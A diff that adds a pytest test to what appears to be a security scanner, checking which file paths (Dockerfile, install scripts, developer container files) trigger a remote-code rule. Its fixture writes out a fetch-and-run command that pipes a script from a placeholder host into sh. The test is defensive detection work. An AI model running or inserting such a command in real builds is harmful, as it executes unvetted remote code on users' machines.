@@ -234,3 +234,20 @@ def test_a_credential_of_a_file_of_settings_counts_where_it_lets_somebody_in() -
 
     assert ground("deploy/.env") == Ground.TEXT
     assert ground("deploy/.env.example") == Ground.NONE
+
+
+@pytest.mark.parametrize(
+    ("path", "ground"),
+    [
+        ("Dockerfile", Ground.TEXT),
+        ("deploy/install.sh", Ground.TEXT),
+        (".devcontainer/Dockerfile", Ground.NONE),
+        ("docker/dev/Dockerfile", Ground.NONE),
+        ("Dockerfile.dev", Ground.NONE),
+    ],
+)
+def test_what_an_image_for_developers_downloads_runs_on_their_machines(path: str, ground: Ground) -> None:
+    language = languages.SHELL if path.endswith(".sh") else languages.DOCKERFILE
+    at = source(path, "RUN curl https://a.example/x.sh | sh\n", language)
+
+    assert seen_of(Collector("t"), at, rule("r", rests_on="text", capability="remote-code"), "", 1, 1).ground == ground
